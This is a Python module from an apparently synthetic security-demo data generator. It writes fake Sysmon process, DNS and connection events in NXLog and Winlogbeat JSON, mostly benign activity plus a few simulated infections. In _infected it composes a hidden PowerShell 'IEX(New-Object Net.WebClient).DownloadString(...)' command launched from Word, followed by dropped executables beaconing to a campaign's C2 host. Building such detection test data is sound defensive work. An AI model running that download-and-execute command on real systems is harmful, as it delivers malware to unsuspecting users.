"""Endpoints in the generated world: events of Sysmon, as Winlogbeat and NXLog send them.

Nearly all is what everybody does all day. On a few machines a document starts what it should not.
"""

from collections.abc import Iterator
from datetime import datetime, timedelta
from operator import itemgetter
from pathlib import Path
from random import Random
from typing import NamedTuple
from uuid import UUID

from cure.demo.bystanders import HOME, SITES, STAFF, clean_program, facing, server_of
from cure.demo.campaigns import Campaign
from cure.demo.files import stix_time, write_lines
from cure.demo.world import Delivery, World

_STARTS_A_DAY = 90
_CALLS_A_DAY = 8
_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
_START, _CONNECT, _ASK = 1, 3, 22
_WINDOWS = "C:\\Windows\\System32\\"
_PROGRAMS = "C:\\Program Files\\Example\\"


class _Program(NamedTuple):
    """A program that is started."""

    image: str
    command: str
    parent: str
    sha256: str
    company: str = "Example Corporation"
    original_name: str = ""


class _Event(NamedTuple):
    """An event: when, on which machine, of which number, and with what data."""

    moment: datetime
    machine: str
    number: int
    data: dict[str, str]


def write(world: World, folder: Path) -> Iterator[Delivery]:
    """Write the events of two halves of the staff, each by a collector of its own."""
    own = folder / "endpoint"
    dice = world.dice("endpoint")
    events = sorted((*_usual(world, dice), *_infected(world, dice)), key=itemgetter(0, 2))
    halves = {True: STAFF[:25], False: STAFF[25:]}
    write_lines(own / "nxlog.json", map(_nxlog, _of(events, halves[True])))
    yield Delivery("endpoint", "office", own / "nxlog.json")
    write_lines(own / "winlogbeat.json", map(_winlogbeat, _of(events, halves[False])))
    yield Delivery("endpoint", "branch", own / "winlogbeat.json")


def _of(events: list[_Event], staff: tuple[str, ...]) -> Iterator[_Event]:
    return (event for event in events if event.machine in staff)


def _usual(world: World, dice: Random) -> Iterator[_Event]:
    for moment in world.moments(dice, _STARTS_A_DAY):
        machine, (name, digest) = dice.choice(STAFF), clean_program(dice)
        image = _PROGRAMS + name
        program = _Program(image, f'"{image}"', "C:\\Windows\\explorer.exe", digest)
        site = dice.choice(SITES)
        server = (site, server_of(site), 443)
        yield from _run(dice, (moment, machine), program, [server])


def _infected(world: World, dice: Random) -> Iterator[_Event]:
    """Yield what the loader and the targeted attack start, and how that calls home."""
    loader, targeted = world.campaigns.loader, world.campaigns.targeted
    fetch = f"(New-Object Net.WebClient).DownloadString('{loader.dropper}')"
    shell = _Program(
        f"{_WINDOWS}WindowsPowerShell\\v1.0\\powershell.exe",
        f"powershell -w hidden IEX({fetch})",
        "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
        clean_program(dice)[1],
    )
    tide = "C:\\Users\\Public\\tide.exe"
    reed = "C:\\ProgramData\\kaigi.exe"
    for begins, machine, programs, campaign in (
        *((0.3 + 0.1 * n, STAFF[n], (shell, _dropped(tide, loader)), loader) for n in range(3)),
        *((0.1 + n, STAFF[20 + 6 * n], (_dropped(reed, targeted),), targeted) for n in range(2)),
    ):
        moment = world.told(campaign, begins)
        c2 = (campaign.c2_domain, campaign.c2_ip, campaign.c2_port)
        for program in programs:
            yield from _run(dice, (moment, machine), program, [c2])
            moment += timedelta(seconds=40)
        for later in world.moments(dice, _CALLS_A_DAY):
            if moment < later < moment + timedelta(days=3):
                yield from _run(dice, (later, machine), programs[-1], [c2])


def _dropped(image: str, campaign: Campaign) -> _Program:
    return _Program(image, image, f"{_WINDOWS}rundll32.exe", campaign.samples[0], company="-")


def _run(
    dice: Random,
    where: tuple[datetime, str],
    program: _Program,
    servers: list[tuple[str, str, int]],
) -> Iterator[_Event]:
    """Yield that a program starts, asks for names, and connects to them."""
    moment, machine = where
    same = {"ProcessGuid": f"{{{UUID(int=dice.getrandbits(128))}}}", "Image": program.image}
    started = {
        "CommandLine": program.command,
        "ParentImage": program.parent,
        "Company": program.company,
        "OriginalFileName": program.original_name or program.image.rpartition("\\")[2],
        "Hashes": f"SHA256={program.sha256.upper()}",
    }
    yield _Event(moment, machine, _START, same | started)
    for name, address, port in servers:
        moment += timedelta(seconds=dice.uniform(0.1, 3))
        asked = {"QueryName": name, "QueryStatus": "0", "QueryResults": f"{address};"}
        yield _Event(moment, machine, _ASK, same | asked)
        moment += timedelta(seconds=0.05)
        connected = {
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIp": facing(machine, address),
            "SourcePort": str(dice.randrange(49_152, 65_536)),
            "DestinationIp": address,
            "DestinationHostname": name,
            "DestinationPort": str(port),
        }
        yield _Event(moment, machine, _CONNECT, same | connected)


def _host(address: str) -> str:
    return f"PC-{address.rpartition('.')[2]}.corp.{HOME}"


def _utc(moment: datetime) -> dict[str, str]:
    return {"UtcTime": f"{moment:%Y-%m-%d %H:%M:%S}.{moment.microsecond // 1000:03}"}


def _nxlog(event: _Event) -> dict[str, object]:
    return {
        "SourceName": "Microsoft-Windows-Sysmon",
        "Channel": _CHANNEL,
        "Hostname": _host(event.machine),
        "EventTime": f"{event.moment:%Y-%m-%d %H:%M:%S}",
        "EventID": event.number,
        **_utc(event.moment),
        **event.data,
    }


def _winlogbeat(event: _Event) -> dict[str, object]:
    return {
        "@timestamp": stix_time(event.moment),
        "winlog": {
            "channel": _CHANNEL,
            "event_id": str(event.number),
            "computer_name": _host(event.machine),
            "event_data": _utc(event.moment) | event.data,
        },
        "event": {"code": str(event.number)},
    }
